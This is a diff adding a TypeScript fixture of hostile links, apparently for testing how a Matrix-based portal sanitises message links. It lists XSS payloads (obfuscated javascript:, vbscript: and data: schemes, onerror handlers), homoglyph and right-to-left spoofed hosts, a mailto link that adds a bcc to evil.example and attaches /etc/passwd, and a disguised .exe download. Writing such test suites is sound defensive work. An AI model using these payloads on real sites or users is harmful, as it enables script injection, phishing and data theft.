@@ -1,0 +1,142 @@
+import { formatted, plain, type HostileMessage } from "./hostile-message.ts";
+
+function links(tries: string, addresses: Readonly<Record<string, string>>): HostileMessage[] {
+  return formatted(
+    tries,
+    Object.fromEntries(
+      Object.entries(addresses).map(([name, href]) => [`link: ${name}`, `<a href="${href}">Weiter</a>`]),
+    ),
+  );
+}
+
+const schemes = links("run something or leave the portal by a link's scheme", {
+  javascript: "javascript:alert(1)",
+  "javascript in capitals": "JAVASCRIPT:alert(1)",
+  "javascript in mixed case": "jAvAsCrIpT:alert(1)",
+  "javascript with a space before": " javascript:alert(1)",
+  "javascript with controls before": "\u0001\u001fjavascript:alert(1)",
+  "javascript with a tab in it": "java\tscript:alert(1)",
+  "javascript with a line break in it": "java\nscript:alert(1)",
+  "javascript with a return in it": "java\rscript:alert(1)",
+  "javascript with a null byte in it": "java\u0000script:alert(1)",
+  "javascript with an entity for a tab": "java&Tab;script:alert(1)",
+  "javascript with an entity for a line break": "java&NewLine;script:alert(1)",
+  "javascript with a colon as entity": "javascript&colon;alert(1)",
+  "javascript with a colon as number": "javascript&#58;alert(1)",
+  "javascript with a colon as hexadecimal number": "javascript&#x3a;alert(1)",
+  "javascript as decimal entities": "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)",
+  "javascript as long entities": "&#0000106avascript:alert(1)",
+  "javascript as entities without an end": "&#106avascript:alert(1)",
+  "javascript with a comment": "javascript://example.org/%0Aalert(1)",
+  "javascript with a percent sign": "javascript%3Aalert(1)",
+  "javascript with a zero-width space": "java\u200bscript:alert(1)",
+  "javascript with a soft hyphen": "java\u00adscript:alert(1)",
+  "javascript with an ideographic space before": "\u3000javascript:alert(1)",
+  "javascript with a wide colon": "javascript\uff1aalert(1)",
+  "javascript behind a view": "view-source:javascript:alert(1)",
+  "javascript behind feed": "feed:javascript:alert(1)",
+  "javascript behind a jar": "jar:javascript:alert(1)!",
+  livescript: "livescript:alert(1)",
+  mocha: "mocha:alert(1)",
+  vbscript: "vbscript:msgbox(1)",
+  "vbscript in capitals": "VBSCRIPT:msgbox(1)",
+  "data with HTML": "data:text/html,<script>alert(1)</script>",
+  "data with HTML in base64": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
+  "data with SVG": "data:image/svg+xml,<svg onload=alert(1)>",
+  "data in capitals": "DATA:text/html,x",
+  "data with a space in it": "da ta:text/html,x",
+  blob: "blob:https://example.org/abcdef",
+  filesystem: "filesystem:https://example.org/temporary/x.html",
+  file: "file:///etc/passwd",
+  "file of a network": "file://evil.example/share/x.lnk",
+  chrome: "chrome://settings",
+  about: "about:blank",
+  ftp: "ftp://evil.example/x",
+  "intent of a phone": "intent://evil.example/#Intent;scheme=https;end",
+  "program of an office": "ms-word:ofe|u|https://evil.example/x.docx",
+  "program of a shell": "search-ms:query=x&crumb=location:%5C%5Cevil.example",
+  matrix: "matrix:r/room:example.org?action=join",
+  tel: "tel:+4990112345",
+  magnet: "magnet:?xt=urn:btih:abc",
+  "a path of the portal": "/auth/logout",
+  "a path without a host": "//evil.example/x",
+  "a path with a backslash": "/\\evil.example/x",
+  "a question to this page": "?returnTo=https://evil.example/",
+  "a place on this page": "#/inbox",
+  nothing: "",
+  "half an address": "https://",
+  "an address without slashes": "https:evil.example",
+  "an address with backslashes": "https:\\\\evil.example\\x",
+  "an address with a handler behind it": "https://example.org/&quot; onclick=&quot;alert(1)",
+  "an address with a broken port": "https://example.org:99999/",
+  "an address with broken percent signs": "https://example.org/%zz%",
+  "an address of 30,000 characters": `https://example.org/${"a".repeat(30_000)}`,
+});
+
+const deceptions = formatted("let a reader expect another place", {
+  "link to another host than it says": '<a href="https://evil.example/">https://intranet.example.org/</a>',
+  "link with another host in brackets": '<a href="https://evil.example/">Anmeldung (intranet.example.org)</a>',
+  "link with a user in it": '<a href="https://intranet.example.org@evil.example/">intranet.example.org</a>',
+  "link with a password in it": '<a href="https://ines:geheim@evil.example/">Weiter</a>',
+  "link to a host of other letters": '<a href="https://\u0430pple.example/">\u0430pple.example</a>',
+  "link to a host in Punycode": '<a href="https://xn--pple-43d.example/">apple.example</a>',
+  "link with a turned host": '<a href="https://evil.example/">\u202egro.elpmaxe.tenartni</a>',
+  "link with a host behind spaces": `<a href="https://evil.example/">intranet.example.org${"\u00a0".repeat(200)}</a>`,
+  "link with a zero-width host": '<a href="https://evil.example/">intranet.\u200bexample.org</a>',
+  "link with a wide full stop": '<a href="https://evil.example/">intranet\uff0eexample\uff0eorg</a>',
+  "link without a text": '<a href="https://evil.example/"></a>',
+  "link of a picture": '<a href="https://evil.example/"><img src="mxc://example.org/x" alt="Anmelden"></a>',
+  "link around everything":
+    '<a href="https://evil.example/"><p>eins</p><ul><li>zwei</li></ul><table><tr><td>drei</td></tr></table></a>',
+  "link within a link":
+    '<a href="https://example.org/"><table><tr><td><a href="https://evil.example/">x</a></td></tr></table></a>',
+  "link with a target of the page": '<a href="https://example.org/" target="_top" rel="opener">x</a>',
+  "link that is saved": '<a href="https://evil.example/x.exe" download="Vermerk.odt">Vermerk.odt</a>',
+  "link that pings": '<a href="https://example.org/" ping="https://evil.example/">x</a>',
+  "link with a referrer": '<a href="https://example.org/" referrerpolicy="unsafe-url">x</a>',
+  "link of a mail with more in it":
+    '<a href="mailto:a@example.org?bcc=b@evil.example&amp;attach=/etc/passwd&amp;body=x">x</a>',
+  "link of a mail to another": '<a href="mailto:a@evil.example">leitung@example.org</a>',
+  "link of a mail with line breaks": '<a href="mailto:a@example.org%0d%0abcc:b@evil.example">x</a>',
+  "500 links": '<a href="https://example.org/">x</a> '.repeat(500),
+});
+
+const people = formatted("speak for or of somebody by a link to a person", {
+  person: '<a href="https://matrix.to/#/@ines:example.org">Ines Marquardt</a>',
+  "person with another's name": '<a href="https://matrix.to/#/@evil:example.org">Helga Brandstetter (Leitung)</a>',
+  "person without a name": '<a href="https://matrix.to/#/@ines:example.org"></a>',
+  "person with a script for a name":
+    '<a href="https://matrix.to/#/@ines:example.org"><script>alert(1)</script>Ines</a>',
+  "person as HTML": '<a href="https://matrix.to/#/@<img src=x onerror=alert(1)>:example.org">x</a>',
+  "person with percent signs": '<a href="https://matrix.to/#/%40ines%3Aexample.org">Ines</a>',
+  "person with broken percent signs": '<a href="https://matrix.to/#/%40ines%3Aexample.org%">Ines</a>',
+  "person with a question": '<a href="https://matrix.to/#/@ines:example.org?via=evil.example">Ines</a>',
+  "person with a path": '<a href="https://matrix.to/#/@ines:example.org/$event">Ines</a>',
+  "person with a turned name": '<a href="https://matrix.to/#/@ines:example.org">\u202eseni</a>',
+  "person with a name of 5,000 letters": `<a href="https://matrix.to/#/@ines:example.org">${"Ines".repeat(1250)}</a>`,
+  "person of a host that looks like it": '<a href="https://matrix.to.evil.example/#/@ines:example.org">Ines</a>',
+  "person of a user that looks like it": '<a href="https://matrix.to@evil.example/#/@ines:example.org">Ines</a>',
+  "room by its name": '<a href="https://matrix.to/#/#referat42:example.org">Referat 42</a>',
+  "room by its id": '<a href="https://matrix.to/#/!ref42:example.org/$event?via=example.org">Nachricht</a>',
+  "page of matrix.to": '<a href="https://matrix.to/evil">Weiter</a>',
+  everybody: '<a href="https://matrix.to/#/@room">@room</a> @room',
+  "person in a person":
+    '<a href="https://matrix.to/#/@ines:example.org">Ines <a href="https://evil.example/">x</a></a>',
+});
+
+const written = plain("lead somewhere by an address in plain text", {
+  "plain javascript": "javascript:alert(1)",
+  "plain data": "data:text/html,<script>alert(1)</script>",
+  "plain address in a sentence": "Siehe (https://example.org/a_(b)), dann „https://example.org/x“.",
+  "plain address with a user in it": "https://intranet.example.org@evil.example/anmelden",
+  "plain address with HTML behind it": 'https://example.org/"><img src=x onerror=alert(1)>',
+  "plain address with a turned ending": "https://example.org/\u202efdp.exe",
+  "plain address of 20,000 characters": `https://example.org/${"a".repeat(20_000)}`,
+  "plain address of other letters": "https://\u0430pple.example/",
+  "1,000 plain addresses": "https://example.org/x ".repeat(1000),
+  "plain address without a host": "https:// http:/// https://? https://#",
+  "plain address of a person": "https://matrix.to/#/@ines:example.org",
+});
+
+/** What tries to lead a person or the page somewhere. */
+export const hostileLinks: readonly HostileMessage[] = [...schemes, ...deceptions, ...people, ...written];
